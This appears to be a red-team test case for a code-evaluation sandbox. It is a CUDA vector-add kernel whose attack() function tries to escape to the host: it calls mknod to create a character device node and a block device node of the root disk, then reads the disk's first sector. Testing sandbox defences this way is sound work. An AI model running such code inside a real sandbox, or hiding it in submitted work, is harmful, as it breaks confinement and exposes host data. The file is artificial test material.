// expect: passed
// task: vector_add
// flags: --no-time
// modes: eval
// threat: escape to the host
// mechanism: no capabilities (CAP_MKNOD dropped) and the seccomp allow-list (no mknod); Landlock alone lets a root worker make device nodes in its scratch folder
// why: as root, makes a character device node and a block device node of the root file system's disk in its scratch folder and reads the disk's first sector through it; then computes the right answer
#include <cuda_runtime.h>
#include <stdio.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>
static int breached = 0;
// An attack that got through says so where a verdict shows it (the end of the process's
// output, kept with a rejection) and spoils the answer, so the verdict cannot pass.
static void breach(const char* what) {
  fprintf(stderr, "REDTEAM-BREACH: %s\n", what);
  fflush(stderr);
  breached = 1;
}
__global__ void add(const float* a, const float* b, float* c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
__global__ void spoil(float* c) { c[0] += 1.0f; }
static void attack() {
  if (mknod("rt-null", S_IFCHR | 0600, makedev(1, 3)) == 0) breach("made a character device node in its scratch folder");
  struct stat root;
  if (stat("/", &root) == 0 && mknod("rt-disk", S_IFBLK | 0600, root.st_dev) == 0) {
    breach("made a block device node of the root file system's disk");
    char sector[512];
    int fd = open("rt-disk", O_RDONLY);
    if (fd >= 0 && read(fd, sector, sizeof sector) == (ssize_t)sizeof sector) breach("read the host's disk through it");
  }
}
extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t s) {
  static bool once = false;
  if (!once) {
    once = true;
    attack();
  }
  if (n > 0) add<<<(n + 255) / 256, 256, 0, s>>>(a, b, c, n);
  if (breached && n > 0) spoil<<<1, 1, 0, s>>>(c);
}
